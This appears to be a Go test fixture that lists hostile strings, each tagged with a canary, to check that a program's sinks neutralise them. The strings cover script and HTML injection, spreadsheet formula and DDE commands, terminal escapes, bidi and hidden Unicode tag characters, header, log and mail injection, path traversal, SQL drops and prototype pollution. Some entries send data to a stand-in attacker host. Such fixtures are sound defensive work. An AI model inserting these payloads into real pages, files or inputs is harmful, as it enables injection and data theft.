// Package hostile is one corpus of texts that attack whoever shows them: browsers,
// spreadsheets, terminals, logs, readers of mail. Every sink of the program is tested
// with all of it, so that a new text reaches every sink at once. It is for tests.
package hostile

import "strings"

// Canary stands in every text, so that a test finds where one has gone.
const Canary = "xqcanaryx"

// Text is one of the corpus.
type Text struct {
	Name string
	Text string
}

// Long is how many bytes the longest text has.
const Long = 10 << 20

// Texts returns the corpus without the longest one.
func Texts() []Text {
	texts := []Text{
		{"script", `<script>alert("` + Canary + `")</script>`},
		{"script in upper case", `<SCRIPT SRC=//evil.example/` + Canary + `.js></SCRIPT>`},
		{"script that ends what it is in", `</textarea></title></style></script><script>alert('` + Canary + `')</script>`},
		{"image with a handler", `<img src=x onerror="alert('` + Canary + `')">`},
		{"svg with a handler", `<svg/onload=alert('` + Canary + `')>`},
		{"attribute that is left", `" autofocus onfocus="alert('` + Canary + `')" x="`},
		{"attribute in single quotes", `' onmouseover='alert(1)' x='` + Canary},
		{"frame", `<iframe srcdoc="<script>alert('` + Canary + `')</script>"></iframe>`},
		{"form to elsewhere", `<form action=https://evil.example/` + Canary + `><input type=submit></form>`},
		{"base", `<base href="https://evil.example/` + Canary + `/">`},
		{"refresh", `<meta http-equiv=refresh content="0;url=https://evil.example/` + Canary + `">`},
		{"style", `<style>@import 'https://evil.example/` + Canary + `';</style>`},
		{"address that runs", `javascript:alert('` + Canary + `')`},
		{"link that runs", `<a href="javascript:alert('` + Canary + `')">here</a>`},
		{"address with data", `data:text/html,<script>alert('` + Canary + `')</script>`},
		{"htmx attribute", `<div hx-get="https://evil.example/` + Canary + `" hx-trigger="load"></div>`},
		{"template", `{{.Secret}}${7*7}#{7*7}<%= 7*7 %>` + Canary},
		{"comment", `<!--><script>alert('` + Canary + `')</script>-->`},
		{"CDATA", `<![CDATA[<script>alert('` + Canary + `')</script>]]>`},
		{"NUL in a tag", "<scr\x00ipt>alert('" + Canary + "')</scr\x00ipt>"},
		{"UTF-7", `+ADw-script+AD4-alert('` + Canary + `')+ADw-/script+AD4-`},
		{"entities", `&lt;script&gt;alert('` + Canary + `')&lt;/script&gt;&#x3c;script&#x3e;`},

		{"Markdown image", `![` + Canary + `](https://evil.example/?q=secret)`},
		{"Markdown link that runs", `[` + Canary + `](javascript:alert(1))`},
		{"Markdown reference", "[" + Canary + "][1]\n\n[1]: https://evil.example/?q=secret"},
		{"Markdown with HTML", "# " + Canary + "\n\n<img src=https://evil.example/x.png>"},

		{"formula", `=HYPERLINK("https://evil.example/?"&A1,"` + Canary + `")`},
		{"formula with a plus", `+cmd|' /C calc'!A0 ` + Canary},
		{"formula with a minus", `-2+3+cmd|' /C calc'!A0 ` + Canary},
		{"formula with an at", `@SUM(1+1)*cmd|' /C calc'!A0 ` + Canary},
		{"formula after a tab", "\t=1+1 " + Canary},
		{"formula after a return", "\r=1+1 " + Canary},
		{"formula after a line feed", "\n=1+1 " + Canary},
		{"full-width formula", "＝1+1 " + Canary},
		{"formula in another cell", `x","=1+1","` + Canary},
		{"formula in another row", "x\"\r\n=1+1,\"" + Canary},
		{"DDE", `=DDE("cmd";"/C calc";"` + Canary + `")`},

		{"ANSI colour", "\x1b[31m" + Canary + "\x1b[0m"},
		{"ANSI clear", "\x1b[2J\x1b[1;1H" + Canary},
		{"terminal title", "\x1b]0;" + Canary + "\x07"},
		{"terminal link", "\x1b]8;;https://evil.example\x1b\\" + Canary + "\x1b]8;;\x1b\\"},
		{"terminal clipboard", "\x1b]52;c;" + Canary + "\x07"},
		{"8-bit control", "\u009b31m" + Canary},
		{"backspace", Canary + "\b\b\b\b\b\bok"},
		{"bell and delete", "\a\x7f" + Canary},

		{"right to left", "\u202e" + Canary + "\u202c.exe"},
		{"isolate", "\u2067" + Canary + " if (admin) { \u2066"},
		{"marks", "\u200f\u061c" + Canary + "\u200e"},
		{"tags", Canary + "\U000e0049\U000e0067\U000e006e\U000e006f\U000e0072\U000e0065"},
		{"zero width", "x\u200bq\u200c" + Canary + "\ufeff"},
		{"combining", Canary + strings.Repeat("\u0301", 500)},
		{"homoglyphs", "раураl " + Canary},

		{"header injection", Canary + "\r\nSet-Cookie: admin=1\r\n\r\n<script>alert(1)</script>"},
		{"log injection", Canary + "\n" + `{"time":"2026-01-01T00:00:00Z","level":"INFO","msg":"signed in","user_id":"root"}`},
		{"line separator", Canary + "\u2028\u2029{\"level\":\"INFO\"}"},
		{"next line", Canary + "\u0085second"},
		{"mail header", Canary + "\r\nBcc: everybody@example.com"},
		{"CEF", Canary + "|10|src=1.2.3.4\nCEF:0|x"},
		{"syslog", Canary + "\n<13>1 2026-01-01T00:00:00Z host app - - - root signed in"},

		{"invalid UTF-8", "\xff\xfe" + Canary + "\xc3\x28\xa0\xa1"},
		{"cut UTF-8", Canary + "\xf0\x9f\x92"},
		{"overlong", "\xc0\xbc" + Canary + "script\xc0\xbe"},
		{"surrogate", "\xed\xa0\x80" + Canary},
		{"noncharacter", "\ufffe\uffff" + Canary},

		{"path", "../../../../etc/passwd%00" + Canary},
		{"SQL", `'; DROP TABLE items; --` + Canary},
		{"format", "%s%n%x%!d(string=" + Canary + ")"},
		{"JSON", `"},{"admin":true,"x":"` + Canary},
		{"prototype", `{"__proto__":{"admin":true},"x":"` + Canary + `"}`},
		{"many lines", strings.Repeat("\n", 2_000) + Canary},
		{"long word", strings.Repeat("W", 20_000) + Canary},
		{"only spaces", "\u3000\u00a0\u2003" + Canary},
	}
	return texts
}

// Longest is one line of Long bytes.
func Longest() Text {
	return Text{"10 MB in one line", strings.Repeat("A", Long-len(Canary)) + Canary}
}
